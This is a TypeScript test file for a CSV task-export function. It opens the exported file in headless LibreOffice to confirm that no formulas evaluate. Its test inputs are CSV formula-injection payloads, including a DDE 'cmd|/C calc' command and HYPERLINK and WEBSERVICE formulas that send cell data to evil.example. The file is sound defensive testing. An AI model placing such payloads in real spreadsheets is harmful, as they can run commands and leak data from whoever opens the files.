import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import { buildTask } from '@atrium/testing';
import { formatTasksCsv } from './tasks-csv';

const OFFICE = process.env['LIBREOFFICE_PATH'] ?? 'soffice';
const OFFICE_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:office:1.0';
const TABLE_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:table:1.0';
const TEXT_NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns:text:1.0';

const HOSTILE_TEXTS = [
  '=1+1',
  '+1+1',
  '-1-1',
  '@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1-1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '""=1+1""',
  "'=1+1",
  'a,=1+1',
  'a;=1+1;b',
  'a\t=1+1\tb',
  'a|=1+1',
  'a; =1+1;b',
  'a;"=1+1";b',
  'a";=1+1;"b',
  'a;＝1+1',
  'a;+1+1',
  'a;-1-1',
  'a;@SUM(1)',
  'a\n=1+1',
  'a\r\n=1+1,b\r\nc',
  'a\r=1+1',
  'a,=SUM(1)',
  'a;=SUM(1);b',
  'a\t=SUM(1)\tb',
  'a; =SUM(1);b',
  'a;"=SUM(1)";b',
  'a";=SUM(1);"b',
  'a;=1+SUM (A1);b',
  'a\n=SUM(1)',
  'a\r\n=SUM(1),b\r\nc',
  "a;=cmd|'/C calc'!A0;b",
  'a;=sum(1);',
  '=HYPERLINK("http://evil.example/?q="&A1,"Total")',
  'a\n=WEBSERVICE("http://evil.example"),b',
];
const TASKS = HOSTILE_TEXTS.map((text, index) =>
  buildTask({ id: index + 1, title: text, description: text, assignees: [{ userId: index }] }),
);
const USERNAMES = new Map(HOSTILE_TEXTS.map((text, index) => [index, text]));

interface Cell {
  readonly type: string | null;
  readonly formula: string | null;
  readonly text: string;
}

let folder: string;

beforeAll(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'atrium-spreadsheet-'));
});

afterAll(() => {
  rmSync(folder, { recursive: true });
});

/**
 * Opens a CSV file in LibreOffice, which evaluates any formulas in it.
 *
 * @param separators character codes of the column separators; detected by LibreOffice if omitted
 * @returns non-empty cells by row
 */
function open(csv: string, separators?: string): Cell[][] {
  const file = path.join(folder, 'tasks.csv');
  writeFileSync(file, csv);
  const args = [
    // A separate profile is independent of user settings and of other running instances.
    `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`,
    '--headless',
    // Separators, double quotes, UTF-8, first line.
    ...(separators === undefined ? [] : [`--infilter=CSV:${separators},34,76,1`]),
    '--convert-to',
    'fods',
    '--outdir',
    folder,
    file,
  ];
  execFileSync(OFFICE, args, { stdio: 'pipe' });
  const xml = readFileSync(path.join(folder, 'tasks.fods'), 'utf8');
  const sheet = new DOMParser().parseFromString(xml, 'application/xml');
  return [...sheet.getElementsByTagNameNS(TABLE_NAMESPACE, 'table-row')]
    .map((row) => [...row.getElementsByTagNameNS(TABLE_NAMESPACE, 'table-cell')].map(readCell))
    .map((cells) => cells.filter(({ text, formula }) => text !== '' || formula !== null));
}

function readCell(cell: Element): Cell {
  for (const tab of cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'tab')) tab.append('\t');
  for (const blanks of cell.getElementsByTagNameNS(TEXT_NAMESPACE, 's')) {
    blanks.append(' '.repeat(Number(blanks.getAttributeNS(TEXT_NAMESPACE, 'c') ?? 1)));
  }
  const lines = [...cell.getElementsByTagNameNS(TEXT_NAMESPACE, 'p')];
  return {
    type: cell.getAttributeNS(OFFICE_NAMESPACE, 'value-type'),
    formula: cell.getAttributeNS(TABLE_NAMESPACE, 'formula'),
    text: lines.map((line) => line.textContent).join('\n'),
  };
}

function findOtherThanText(rows: Cell[][]): Cell[] {
  return rows.flat().filter(({ type, formula }) => type !== 'string' || formula !== null);
}

/** Calculations with numbers alone are harmless. */
function findUnsafe(rows: Cell[][]): Cell[] {
  return rows.flat().filter(({ formula }) => formula !== null && /[a-z]\s*\(|\|/i.test(formula));
}

it('opens in LibreOffice as text only', () => {
  const csv = formatTasksCsv(TASKS, USERNAMES);

  const rows = open(csv, '44');

  const written: string[][] = parse(csv, { bom: true, record_delimiter: '\r\n' });
  expect(written).toHaveLength(TASKS.length + 1);
  expect(rows.map((cells) => cells.map(({ text }) => text))).toEqual(
    written.map((cells) =>
      cells.filter((cell) => cell !== '').map((cell) => cell.replace(/\r\n?/g, '\n')),
    ),
  );
  expect(findOtherThanText(rows)).toEqual([]);
});

it.each([
  ['detected separators', undefined],
  ['semicolons', '59'],
  ['tabs', '9'],
  ['commas, semicolons and tabs', '44/59/9'],
])('contains no formulas that call anything for LibreOffice with %s', (_name, separators) => {
  const rows = open(formatTasksCsv(TASKS, USERNAMES), separators);

  expect(rows.length).toBeGreaterThan(TASKS.length);
  expect(findUnsafe(rows)).toEqual([]);
});

it('the check detects formulas', () => {
  expect(findOtherThanText(open('A,B\r\n"a;b",=1+1\r\n'))).toMatchObject([
    { type: 'float', formula: 'of:=1+1', text: '2' },
  ]);
  expect(findUnsafe(open('A,B\r\na,"b;=SUM(1);=1+1"\r\n', '59'))).toHaveLength(1);
  expect(findUnsafe(open("A,B\r\na,b;=cmd|'x'!A0;c\r\n", '59'))).toHaveLength(1);
});
